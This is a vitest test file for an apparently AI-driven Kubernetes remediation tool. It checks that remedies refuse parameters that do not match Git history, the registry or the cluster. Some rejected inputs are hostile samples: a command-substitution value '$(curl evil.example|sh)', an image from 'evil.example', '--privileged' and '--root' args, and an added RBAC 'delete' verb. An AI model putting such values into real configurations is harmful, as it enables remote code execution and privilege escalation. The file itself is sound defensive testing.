import { describe, expect, it } from "vitest";
import type { RemedyId } from "../../src/config/schema.ts";
import { diffObjects } from "../../src/gitops/object-diff.ts";
import { keyOf } from "../../src/kube/ref.ts";
import type { Change, Json, KubeObject, Symptom } from "../../src/model.ts";
import { remedies } from "../../src/remedies/index.ts";
import { ago, container, pod, revision, workload } from "../detectors/snapshot-builder.ts";
import { APP, commit, configMap, configRef, onWorkload, tried, type World } from "./remedy-context.ts";

/**
 * Parameters that look right: their schema, their target and their fields are allowed. What is wrong is where the value comes from. A
 * model may choose parameters, so every remedy is told such lies here.
 */

type Params = { readonly [name: string]: Json };
interface Case {
  readonly id: RemedyId;
  readonly world: World;
  /** What the remedy itself would choose. */
  readonly right: Params;
  /** What must not be believed, with how it is refused. */
  readonly lies: readonly (readonly [string, Params, RegExp])[];
  /** The right parameters where the world proves something else. */
  readonly elsewhere?: readonly (readonly [string, World, RegExp])[];
}

const SHA = "1a2b3c4d5e6f70819293a4b5c6d7e8f901234567";
const crash: Symptom = { kind: "CrashLoop", exit: "application", exitCode: 1, init: false };
const env = workload({ container: { env: [{ name: "MODE", value: "turbo" }], args: ["--serve"] } });
const MODE = onWorkload(env, [...APP, "env", { by: "name", value: "MODE" }, "value"], "turbo", "fast");
const ARGS = onWorkload(env, [...APP, "args"], ["--serve"], ["--serve", "--safe"]);
const asField = (change: Change): Json => change as unknown as Json;
const inGit: World = { workload: env, symptom: crash, registry: {}, previous: [commit([MODE, ARGS])] };

const WRONG = "ghcr.io/acme/cart:1.4.2-alpin";
const pulling: Symptom = { kind: "ImagePull", cause: "terminal", image: WRONG, message: "", init: false };
const mistagged: World = {
  workload: workload({ container: { image: WRONG } }),
  symptom: pulling,
  registry: { "ghcr.io/acme/cart": ["1.4.2-alpine", "1.4.1"] },
};

const probed = (over: object = {}): World => ({
  workload: workload({
    container: {
      ports: [
        { name: "http", containerPort: 8080 },
        { name: "metrics", containerPort: 9100 },
      ],
      livenessProbe: { httpGet: { path: "/", port: 9090 } },
      readinessProbe: { httpGet: { path: "/", port: 8080 } },
    },
  }),
  symptom: { kind: "LivenessKill", probe: "livenessProbe", message: "connection refused" },
  ...over,
});

const asked: World = {
  workload: workload({
    container: { ports: [{ containerPort: 8080 }], livenessProbe: { httpGet: { path: "/helthz", port: 8080 } } },
  }),
  symptom: { kind: "LivenessKill", probe: "livenessProbe", message: "HTTP probe failed with statuscode: 404" },
  answers: { "8080/helthz": 404, "8080/healthz": 200, "8080/ping": 500 },
};

const OLD = { readyReplicas: 1, template: { spec: { containers: [{ name: "app", image: "shop/cart:1" }] } } };
const rolled: World = {
  workload: workload({
    container: { image: "shop/cart:2" },
    podSpec: { nodeSelector: { disk: "nvme" } },
    revisions: [revision("cart-new", 2, true), revision("cart-old", 1, false, OLD)],
  }),
  symptom: { kind: "Unschedulable", message: "no node" },
  container: null,
  registry: { "shop/cart": ["1", "2"] },
};

const missing: Symptom = { kind: "ConfigMissing", refKind: "ConfigMap", name: "settigns", message: "" };
const mistyped: World = {
  workload: workload({ container: { envFrom: [{ configMapRef: { name: "settigns" } }] } }),
  symptom: missing,
  snapshot: { configs: { shop: { configMaps: { settings: ["mode"], setting: ["mode"] }, secrets: {} } } },
};

const killed: World = {
  workload: { ...workload({ container: { resources: { limits: { memory: "64Mi" } } } }), limits: {} },
  symptom: { kind: "OOMKilled", limit: "64Mi" },
};

const waits = pod({ containers: [container({ waiting: { reason: "ImagePullBackOff", message: "" } })] });
const late: World = {
  workload: workload({ container: { image: "shop/cart:2" }, pods: [waits] }),
  symptom: { ...pulling, image: "shop/cart:2" },
  registry: { "shop/cart": ["2"] },
};

const gone = configMap("settings", { mode: "fast" });
const removed: World = {
  workload: workload({ container: { envFrom: [{ configMapRef: { name: "settings" } }] } }),
  symptom: { kind: "ConfigMissing", refKind: "ConfigMap", name: "settings", message: "" },
  removed: { [keyOf(configRef("settings"))]: { commit: commit([]).commit, before: gone } },
};

const refusedObject = (args: Json): KubeObject => workload({ container: { args: args as string[] } }).object;
const manifest: World = {
  workload: env,
  symptom: { kind: "ManifestRefused", message: 'invalid "args"' },
  container: null,
  snapshot: {
    refused: [
      {
        ref: env.ref,
        object: refusedObject(["--bad"]),
        before: refusedObject(["--good"]),
        commit: commit([]).commit,
        message: 'invalid "args"',
      },
    ],
  },
};
const [BACK = MODE] = diffObjects(refusedObject(["--bad"]), refusedObject(["--good"])).map((change) => ({
  ...change,
  object: { ...env.ref },
}));

const VERBS: Change = {
  object: { apiVersion: "rbac.authorization.k8s.io/v1", kind: "Role", namespace: "shop", name: "reader" },
  path: ["rules", 0, "verbs"],
  from: ["get"],
  to: ["get", "list"],
};
const rbac: readonly KubeObject[] = [
  {
    apiVersion: VERBS.object.apiVersion,
    kind: "Role",
    metadata: { name: "reader", namespace: "shop" },
    rules: [{ apiGroups: [""], resources: ["pods"], verbs: ["get"] }],
  },
  {
    apiVersion: VERBS.object.apiVersion,
    kind: "RoleBinding",
    metadata: { name: "reader", namespace: "shop" },
    roleRef: { apiGroup: "rbac.authorization.k8s.io", kind: "Role", name: "reader" },
    subjects: [{ kind: "ServiceAccount", name: "default", namespace: "shop" }],
  },
];
const denied: World = {
  workload: env,
  symptom: {
    kind: "CrashLoop",
    exit: "application",
    exitCode: 1,
    init: false,
    message:
      'pods is forbidden: User "system:serviceaccount:shop:default" cannot list resource "pods" in API group "" in the namespace "shop"',
  },
  live: rbac,
  others: rbac,
  previous: [commit([VERBS])],
};

const restored = (field: Change, sha: string | undefined = SHA): Params => ({
  ...(sha === undefined ? {} : { commit: sha }),
  fields: [asField(field)],
});
const lieOf = (change: Change, over: Partial<Change>): Change => ({ ...change, ...over });

const CASES: readonly Case[] = [
  {
    id: "restore-from-git",
    world: inGit,
    right: restored(MODE),
    lies: [
      ["a value that Git never had", restored(lieOf(MODE, { to: "$(curl evil.example|sh)" })), /is not what commit/],
      ["a value of another type", restored(lieOf(MODE, { to: 1 })), /is not what commit/],
      ["the field taken away", restored({ object: MODE.object, path: MODE.path, from: "turbo" }), /is not what commit/],
      [
        "a field that the commit did not touch",
        restored(onWorkload(env, [...APP, "command"], undefined, ["sh"])),
        /is not what commit/,
      ],
      [
        "an image that the commit did not touch",
        restored(onWorkload(env, [...APP, "image"], "nginx:1.27", "evil.example/x:1")),
        /has changed|is not what commit/,
      ],
      ["a commit that does not exist", restored(MODE, "f".repeat(40)), /is no recent one that changed/],
      ["Git's present value, which it is not", { fields: [asField(MODE)] }, /is not what Git says/],
      [
        "one right field and one that is not",
        { commit: SHA, fields: [asField(MODE), asField(lieOf(ARGS, { to: ["--root"] }))] },
        /is not what commit/,
      ],
    ],
    elsewhere: [
      ["a commit older than history.age", { ...inGit, previous: [commit([MODE], { age: "15d" })] }, /no recent one/],
      [
        "a commit after the failing began",
        { ...inGit, since: ago("5h"), previous: [commit([MODE], { age: "1h" })] },
        /no recent one/,
      ],
      ["no history at all", { ...inGit, previous: [] }, /no recent one/],
    ],
  },
  {
    id: "revert-commit",
    world: inGit,
    right: { commit: SHA, fields: [asField(MODE), asField(ARGS)] },
    lies: [
      ["a value that Git never had", restored(lieOf(ARGS, { to: ["--privileged"] })), /is not what commit/],
      ["no commit", { fields: [asField(MODE)] }, /no commit is named/],
      ["another commit", restored(MODE, "abcdef0"), /no recent one/],
    ],
  },
  {
    id: "restore-manifest",
    world: manifest,
    right: restored(BACK),
    lies: [
      ["a value that was never there", restored(lieOf(BACK, { to: ["--root"] })), /nothing that the commit changed/],
      ["another commit", restored(BACK, "abcdef0"), /not the commit since which/],
      ["no commit", { fields: [asField(BACK)] }, /not the commit since which/],
    ],
    elsewhere: [
      [
        "what the API server would refuse as well",
        { ...manifest, refusal: () => "still invalid" },
        /would not be enough: still invalid/,
      ],
    ],
  },
  {
    id: "restore-object",
    world: removed,
    right: { commit: SHA, object: gone as unknown as Json },
    lies: [
      [
        "the object with other data",
        { commit: SHA, object: { ...gone, data: { mode: "evil" } } as unknown as Json },
        /is not the object that/,
      ],
      [
        "the object with more in it",
        { commit: SHA, object: { ...gone, immutable: true } as unknown as Json },
        /is not the object that/,
      ],
      [
        "the object with annotations",
        {
          commit: SHA,
          object: { ...gone, metadata: { ...gone.metadata, annotations: { "a/b": "c" } } } as unknown as Json,
        },
        /is not the object that/,
      ],
      ["another commit", { commit: "abcdef0", object: gone as unknown as Json }, /is none that took it out/],
    ],
    elsewhere: [["nothing was taken out of Git", { ...removed, removed: {} }, /is none that took it out/]],
  },
  {
    id: "rollback",
    world: rolled,
    right: { revision: "cart-old" },
    lies: [
      [
        "an image along that the registry has",
        { revision: "cart-old", images: ["app"] },
        /nothing says that the registry does not have/,
      ],
    ],
  },
  {
    id: "correct-image",
    world: mistagged,
    right: { container: "app", image: "ghcr.io/acme/cart:1.4.2-alpine" },
    lies: [
      [
        "a typo's other reading that the registry does not have",
        { container: "app", image: "ghcr.io/acme/cart:1.4.2-alpina" },
        /does not say that it has/,
      ],
    ],
    elsewhere: [
      [
        "a registry that has the present one",
        { ...mistagged, registry: { "ghcr.io/acme/cart": ["1.4.2-alpin", "1.4.2-alpine"] } },
        /the fault lies elsewhere/,
      ],
      ["a registry that says nothing", { workload: mistagged.workload, symptom: pulling }, /does not say that it has/],
      ["a container that pulls well", { ...mistagged, symptom: crash }, /not one whose image cannot be pulled/],
      [
        "another container than the failing",
        { ...mistagged, container: "proxy" },
        /not one whose image cannot be pulled/,
      ],
      [
        "a pull that is refused for its credentials",
        { ...mistagged, symptom: { ...pulling, cause: "authentication" } as Symptom },
        /not one whose image/,
      ],
    ],
  },
  {
    id: "repoint-reference",
    world: mistyped,
    right: { name: "settings" },
    lies: [["a key where a name is wrong", { key: "mode" }, /no typo|is not known to have/]],
    elsewhere: [
      [
        "a name that is right",
        { ...mistyped, snapshot: { configs: { shop: { configMaps: { settings: [], settigns: [] }, secrets: {} } } } },
        /exists: its name is right/,
      ],
    ],
  },
  {
    id: "correct-probe",
    world: probed(),
    right: { container: "app", probes: [{ probe: "livenessProbe", port: 8080 }] },
    lies: [
      [
        "a port that nobody declares",
        { container: "app", probes: [{ probe: "livenessProbe", port: 22 }] },
        /is not declared/,
      ],
      [
        "a probe whose port is declared",
        { container: "app", probes: [{ probe: "readinessProbe", port: 9100 }] },
        /asks a port that the container declares/,
      ],
      [
        "a scheme that no answer of the server wants",
        { container: "app", probes: [{ probe: "livenessProbe", scheme: "HTTPS" }] },
        /no answer of the server says/,
      ],
    ],
    elsewhere: [["another container than the failing", probed({ container: "proxy" }), /is not the one that fails/]],
  },
  {
    id: "correct-probe-path",
    world: asked,
    right: { container: "app", probes: [{ probe: "livenessProbe", path: "/healthz" }] },
    lies: [
      [
        "a path that the program answers with an error",
        { container: "app", probes: [{ probe: "livenessProbe", path: "/ping" }] },
        /does not answer \/ping with success/,
      ],
      [
        "a path that it does not answer",
        { container: "app", probes: [{ probe: "livenessProbe", path: "/" }] },
        /does not answer \/ with success/,
      ],
    ],
    elsewhere: [
      [
        "a path that is there by now",
        { ...asked, answers: { "8080/helthz": 200, "8080/healthz": 200 } },
        /does not answer \/helthz .* with 404 now/,
      ],
      ["a program that cannot be asked", { ...asked, answers: {} }, /does not answer \/helthz .* with 404 now/],
    ],
  },
  {
    id: "raise-memory-limit",
    world: killed,
    right: { container: "app", memory: "128Mi" },
    lies: [["more than a step", { container: "app", memory: "192Mi" }, /more than 2 times 64Mi/]],
    elsewhere: [
      ["what was raised before", { ...killed, raises: 2 }, /looks like a leak/],
      ["a container that is not killed for memory", { ...killed, symptom: crash }, /not one that is killed/],
      ["another container than the failing", { ...killed, container: "proxy" }, /not one that is killed/],
    ],
  },
  {
    id: "restore-policy",
    world: denied,
    right: restored(VERBS),
    lies: [
      ["a right that Git never gave", restored(lieOf(VERBS, { to: ["get", "list", "delete"] })), /is not what commit/],
      ["no commit at all", { fields: [asField(VERBS)] }, /no commit is named/],
      ["the labels of the role", restored(lieOf(VERBS, { path: ["metadata", "labels"] })), /no field that/],
      ["another object", restored(lieOf(VERBS, { object: { ...VERBS.object, name: "admin" } })), /refuses nothing/],
    ],
    elsewhere: [
      ["a program that is denied nothing", { ...denied, symptom: crash }, /refuses nothing/],
      ["a commit that did not take it", { ...denied, previous: [] }, /no recent one that changed/],
    ],
  },
  {
    id: "evict",
    world: late,
    right: { pods: [waits.name] },
    lies: [],
    elsewhere: [
      ["an image that is still not there", { ...late, registry: {} }, /does not have shop\/cart:2/],
      ["what would start over by itself", { ...late, symptom: crash }, /nothing proves that a restart would help/],
      [
        "configuration that is still missing",
        { ...late, symptom: missing },
        /nothing proves that a restart would help/,
      ],
    ],
  },
];

/** Their plans look for the one value that can be meant themselves, and take no other; each has tests of its own for it. */
const PROVED_BY_PLAN: readonly RemedyId[] = [
  "correct-host",
  "correct-name",
  "correct-backend",
  "correct-selector",
  "correct-service-port",
  "correct-storage-class",
  "correct-node-selector",
];

/** What contains writes no value that anybody could choose: pods that fail now, `true`, words of the configuration. Each has tests of its own. */
const WITHOUT_VALUES: readonly RemedyId[] = ["restart", "pause", "exec"];

describe.each(CASES)("$id", ({ id, world, right, lies, elsewhere = [] }) => {
  it("is planned where the value comes from where it must", async () => {
    expect(await tried(id, right, world)).toMatchObject({ title: expect.any(String) });
  });
  for (const [name, params, says] of lies)
    it(`refuses ${name}`, async () => expect(await tried(id, params, world)).toMatch(says));
  for (const [name, other, says] of elsewhere)
    it(`refuses what was right, given ${name}`, async () => expect(await tried(id, right, other)).toMatch(says));
});

it("no remedy of the catalogue is left out", () => {
  const covered = [...CASES.map((one) => one.id), ...PROVED_BY_PLAN, ...WITHOUT_VALUES];
  expect(remedies.map((remedy) => remedy.id).filter((id) => !covered.includes(id))).toEqual([]);
});
